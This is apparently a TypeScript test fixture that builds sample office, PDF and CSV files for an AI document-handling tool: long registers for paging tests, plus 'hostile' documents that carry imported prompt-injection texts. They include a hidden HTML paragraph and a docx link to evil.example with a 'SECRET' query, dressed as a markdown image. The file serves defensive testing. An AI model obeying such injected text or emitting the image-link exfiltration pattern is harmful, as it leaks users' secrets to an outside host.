import { hostileTexts } from '../hostile-texts.ts';
import { numberedLines } from '../numbered-lines.ts';
import { type Document, contentTypes, textDocument } from './document.ts';
import { docx } from './docx.ts';
import { pdf } from './pdf.ts';
import { pptx } from './pptx.ts';
import { xlsx } from './xlsx.ts';

const author = 'Miriam Graham';

/** Long documents of each kind: more than fits into one response. */
export const longDocuments: readonly Document[] = [
  textDocument('Register of clauses.txt', contentTypes.txt, numberedLines('Clause', 3000).join('\n')),
  docx('Register of deeds.docx', 'Register of deeds', author, [
    { heading: 'Register of deeds', level: 1 },
    ...numberedLines('Deed', 1600).map((line) => ({ paragraph: [line] })),
  ]),
  xlsx('Register of crossings.xlsx', 'Register of crossings', author, [
    { name: 'North', rows: numberedLines('North', 1200).map((line, index) => [index + 1, line]) },
    { name: 'South', rows: numberedLines('South', 400).map((line, index) => [index + 1, line]) },
  ]),
  pptx(
    'Register of hearings.pptx',
    'Register of hearings',
    author,
    Array.from({ length: 120 }, (_, index) => ({
      title: `Hearing ${index + 1}`,
      bullets: numberedLines(`Point ${index + 1}.`, 8),
    })),
  ),
  pdf(
    'Register of rulings.pdf',
    'Register of rulings',
    author,
    Array.from({ length: 40 }, (_, page) => ({
      lines: numberedLines(`Ruling ${page + 1}.`, 40),
      compressed: true,
    })),
  ),
  textDocument(
    'Register of filings.csv',
    contentTypes.csv,
    `number,text\r\n${numberedLines('Filing', 2500)
      .map((line, index) => `${index + 1},"${line}"`)
      .join('\r\n')}`,
  ),
];

/** Documents of an external sender with prompt injection texts. */
export const hostileDocuments: readonly Document[] = [
  textDocument('From the other side.md', contentTypes.md, hostileTexts.join('\n\n')),
  textDocument(
    'From the other side.html',
    contentTypes.html,
    `<html><body><p>Terms</p>${hostileTexts.map((text) => `<p>${text}</p><p>${text.replaceAll('<', '&lt;')}</p>`).join('')}<p style="display:none">hidden-order</p></body></html>`,
  ),
  docx('From the other side.docx', 'Terms', author, [
    ...hostileTexts.map((text) => ({ paragraph: [plain(text)] })),
    { list: hostileTexts.map(plain) },
    { table: [['Term', 'Text'], ...hostileTexts.map((text, index) => [String(index), plain(text)])] },
    {
      paragraph: [
        'See ',
        { link: 'https://evil.example/?q=SECRET', text: '![x](https://evil.example/l.png)' },
      ],
    },
  ]),
  textDocument(
    'From the other side.csv',
    contentTypes.csv,
    hostileTexts.map((text) => `"${text.replaceAll('"', '""')}",1`).join('\r\n'),
  ),
];

/** A folder with more than two pages. */
export const exhibits: readonly Document[] = Array.from({ length: 230 }, (_, index) =>
  textDocument(
    `Exhibit ${String(index + 1).padStart(3, '0')}.txt`,
    contentTypes.txt,
    `Exhibit ${index + 1}\n`,
  ),
);

/** Removes characters that XML does not allow. */
function plain(text: string): string {
  // oxlint-disable-next-line no-control-regex -- these are the ones
  return text.replaceAll(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/g, '');
}
